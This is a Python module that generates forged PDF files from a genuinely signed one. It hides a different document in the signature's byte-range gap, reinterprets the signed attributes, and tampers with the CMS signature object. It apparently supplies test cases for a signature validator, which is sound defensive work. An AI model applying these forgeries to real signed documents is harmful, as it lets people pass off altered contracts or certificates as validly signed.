"""Forgeries around a signature that holds: another document in the gap which it does not cover, and
a CMS object that reads something else as what was signed."""

import re
from collections.abc import Callable, Iterator
from typing import NamedTuple

from asn1crypto import cms

# Of the signature as the forger writes it: as much room as he likes, where only sums are checked.
SIZE = 8000
GAP = 2 * SIZE + 2


class Parts(NamedTuple):
    before: bytes
    der: bytes
    after: bytes

    @property
    def covered(self) -> bytes:
        return self.before + self.after


def take_apart(content: bytes) -> Parts:
    numbers = re.search(rb"/ByteRange ?\[0 (\d+) (\d+) (\d+)", content).groups()
    first, second, _length = map(int, numbers)
    padded = bytes.fromhex(content[first + 1 : second - 1].decode())
    return Parts(content[:first], cms.ContentInfo.load(padded).dump(), content[second:])


def _escape(der: bytes) -> bytes:
    for each in (b"\\", b"(", b")", b"\r"):
        der = der.replace(each, b"\\" + each.replace(b"\r", b"r"))
    return der


def literal(der: bytes) -> bytes:
    return b"(" + _escape(der.ljust(SIZE, b"\0")) + b")"


def nested(der: bytes) -> bytes:
    depth = (SIZE - len(der)) // 2
    return b"(" + _escape(der.ljust(SIZE - 2 * depth, b"\0")) + b"(" * depth + b")" * depth + b")"


def octal(der: bytes) -> bytes:
    return b"(" + b"".join(b"\\%03o" % byte for byte in der) + b"\0" * (SIZE - len(der)) + b")"


def _draw(parts: Parts, at: int, told: bytes, contents: bytes) -> bytes:
    """Another document, whose table of objects lies `at`."""
    time = re.search(rb"/M ?(\([^)]+\))", parts.after)[1]
    text = b"BT /F 40 Tf 60 400 Td (Holder: Mallory) Tj ET"
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[6 0 R]/SigFlags 3>>"
        b"/Perms<</DocMDP 7 0 R>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 842 595]/Contents 5 0 R/Annots[6 0 R]"
        b"/Resources<</Font<</F 4 0 R>>>>>>",
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Length %d>>\nstream\n%s\nendstream" % (len(text), text),
        b"<</Type/Annot/Subtype/Widget/FT/Sig/T(IssuerSignature)/Rect[0 0 0 0]/F 132/P 3 0 R"
        b"/V 7 0 R>>",
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/M%s"
        b"%s/Reference[<</Type/SigRef/TransformMethod/DocMDP/TransformParams"
        b"<</Type/TransformParams/P 1/V/1.2>>>>]/Contents %s>>" % (time, told, contents),
    ]
    head = b"xref\n0 8\n0000000000 65535 f \n"
    trailer = b"trailer\n<</Size 8/Root 1 0 R>>\n"
    place, body = at + len(head) + 20 * len(objects) + len(trailer), b""
    for number, made in enumerate(objects, 1):
        head += b"%010d 00000 n \n" % (place + len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, made)
    return head + trailer + body


def _range(*numbers: int) -> bytes:
    return b"/ByteRange[%d %d %d %d]" % numbers


def _table_of(content: bytes) -> int:
    """Where the end of the signed part sends a reader."""
    return int(re.findall(rb"startxref\s+(\d+)", content)[-1])


def _hide(
    parts: Parts,
    contents: Callable[[bytes], bytes] = literal,
    told: Callable[[bytes], bytes] = lambda right: right,
    opening: bytes = b"<>\n",
) -> bytes:
    """The signed bytes are there, and the document that is shown is in the gap between them."""
    first, table = len(parts.before), _table_of(parts.after)
    right = told(_range(0, first, first + GAP, len(parts.after)))
    hidden = opening.ljust(table - first) + _draw(parts, table, right, contents(parts.der))
    return parts.before + hidden.ljust(GAP) + parts.after


def _hide_at_the_start(parts: Parts) -> bytes:
    table = _table_of(parts.after)
    size = table + SIZE
    gap = 2 * size + 2
    right = _range(0, 0, gap, len(parts.covered))
    other = _draw(parts, table, right, literal(parts.der.ljust(size, b"\0")))
    return (b"%PDF-1.7\n".ljust(table - 1) + b"\n" + other).ljust(gap) + parts.covered


def _hide_at_the_end(parts: Parts) -> bytes:
    """A shorter gap makes up for the end, which nobody signed."""
    first = len(parts.before)

    def draw(gap: int) -> bytes:
        at = first + gap + len(parts.after)
        right = _range(0, first, first + gap, len(parts.after)).ljust(60)
        return _draw(parts, at, right, literal(parts.der)) + b"startxref\n%06d\n%%%%EOF\n" % at

    gap = GAP - len(draw(0))
    return parts.before + b"<".ljust(gap - 1) + b">" + parts.after + draw(gap)


def _sign_attributes(parts: Parts) -> bytes:
    """Without signed attributes the signature is over the content itself: over the genuine ones."""
    info = cms.ContentInfo.load(parts.der)
    (signer,) = info["content"]["signer_infos"]
    attributes = signer["signed_attrs"].untag().dump()
    del signer["signed_attrs"]
    table = 100
    right = _range(0, 0, GAP, len(attributes))
    hidden = (
        b"%PDF-1.7\n".ljust(table - 1)
        + b"\n"
        + _draw(parts, table, right, literal(info.dump(True)))
    )
    end = b"\nstartxref\n%d\n%%%%EOF\n" % table
    return hidden.ljust(GAP - len(end)) + end + attributes


def _refill(content: bytes, parts: Parts, filled: bytes) -> bytes:
    room = len(content) - len(parts.covered) - 2
    return parts.before + b"<" + filled.ljust(room, b"0") + b">" + parts.after


def _change_cms(parts: Parts, change: Callable[[cms.SignedData], None]) -> bytes:
    info = cms.ContentInfo.load(parts.der)
    change(info["content"])
    return info.dump(True).hex().upper().encode()


def _reorder(parts: Parts) -> bytes:
    info = cms.ContentInfo.load(parts.der)
    (signer,) = info["content"]["signer_infos"]
    attributes = [each.dump() for each in signer["signed_attrs"]]
    altered = parts.der.replace(b"".join(attributes), b"".join(attributes[::-1]))
    return altered.hex().upper().encode()


def _add_unsigned(signed: cms.SignedData) -> None:
    (signer,) = signed["signer_infos"]
    signer["unsigned_attrs"] = [{"type": "1.2.3.4", "values": []}]


def _repeat_certificate(signed: cms.SignedData) -> None:
    signed["certificates"] = [*signed["certificates"], signed["certificates"][0]]


def _repeat_signer(signed: cms.SignedData) -> None:
    signed["signer_infos"] = [*signed["signer_infos"], signed["signer_infos"][0]]


def list_hidden(content: bytes) -> Iterator[tuple[str, bytes]]:
    parts = take_apart(content)
    digits = parts.der.hex().upper().encode()
    yield "hidden in the gap", _hide(parts)
    yield "attributes as content", _sign_attributes(parts)
    yield "hidden, nested string", _hide(parts, nested)
    yield "hidden, octal string", _hide(parts, octal)
    yield "hidden behind the genuine signature", _hide(parts, opening=b"<" + digits + b">")
    yield "hidden behind a comment", _hide(parts, opening=b"<%s%% \n>" % digits)
    for name, told in (
        ("first", lambda right: _range(0, 0, 0, 0) + right),
        ("last", lambda right: right + _range(0, 0, 0, 0)),
        ("in other letters", lambda right: right.replace(b"R", b"#52")),
    ):
        yield f"hidden, range {name}", _hide(parts, told=told)
    yield "hidden at the start", _hide_at_the_start(parts)
    yield "hidden at the end", _hide_at_the_end(parts)
    for name, change in (
        ("unsigned attribute", _add_unsigned),
        ("certificate twice", _repeat_certificate),
        ("signer twice", _repeat_signer),
    ):
        yield name, _refill(content, parts, _change_cms(parts, change))
    for name, filled in (
        ("attributes reordered", _reorder(parts)),
        ("small digits", digits.lower()),
        ("space after the digits", digits + b"00 "),
        ("comment after the digits", digits + b"00%\n"),
        ("something after the signature", digits + b"ABCD"),
    ):
        yield name, _refill(content, parts, filled)
